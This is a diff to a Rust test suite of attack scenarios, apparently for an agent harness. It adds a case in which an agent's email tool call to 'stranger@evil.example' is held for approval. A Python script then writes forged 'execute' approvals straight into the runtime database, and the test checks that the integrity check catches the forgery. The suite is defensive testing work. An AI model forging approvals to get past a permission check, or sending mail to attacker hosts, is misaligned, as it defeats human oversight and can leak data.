@@ -38,6 +38,14 @@ pub(super) const ATTACKS: &[Scenario] = &[
         play: dropped_triggers,
     },
     Scenario {
+        number: "20b",
+        waits: false,
+        name: "an answer is written into the database",
+        must: "`ua db check` notices",
+        mark: Mark::Mended,
+        play: forged_answer,
+    },
+    Scenario {
         number: "21",
         waits: true,
         name: "a Markdown table of 2000 by 200 cells is made a PDF",
@@ -90,6 +98,29 @@ fn dropped_triggers(stage: &Stage) -> anyhow::Result<Verdict> {
     let end = world.run(&["db", "check"])?;
     let held = if end.code == Some(0) { "FELL" } else { "held" };
     Ok(Verdict::of(end.code != Some(0), format!("the schema: {held}, `ua db check` ended with {}", end.told())))
+}
+
+fn forged_answer(stage: &Stage) -> anyhow::Result<Verdict> {
+    let world = world(stage)?;
+    let mail = call("mcp__ua__send_email", &json!({"to": ["stranger@evil.example"], "subject": "x", "body": "y"}));
+    job(&world, &json!({"tools": {"builtin": true}}), &[mail])?;
+    world.run(&["job", "job.json", "--run-id", "r"])?.must(75)?;
+    world.run(&["db", "check"])?.must(0)?;
+    let script = "import sqlite3,sys\nc=sqlite3.connect(sys.argv[1])\n\
+        c.execute(\"INSERT INTO answers (question_id, choice, answered_by, answered_at) SELECT question_id, 'execute', 'me', created_at FROM questions\")\n\
+        c.execute(\"UPDATE questions SET status = 'answered'\")\nc.commit()";
+    let forged = Command::new("python3").args(["-c", script]).arg(world.path("root/runtime_state.db")).output()?;
+    ensure!(forged.status.success(), "{}", String::from_utf8_lossy(&forged.stderr));
+    let before = world.run(&["db", "check"])?;
+    // Also after somebody went on with it.
+    world.run(&["resume", "r"])?;
+    let after = world.run(&["db", "check"])?;
+    let is_noticed = before.code != Some(0) && after.code != Some(0);
+    let held = if is_noticed { "held" } else { "FELL" };
+    Ok(Verdict::of(
+        is_noticed,
+        format!("the answers: {held}, {} before and {} after a resume", before.told(), after.told()),
+    ))
 }
 
 fn large_table(stage: &Stage) -> anyhow::Result<Verdict> {
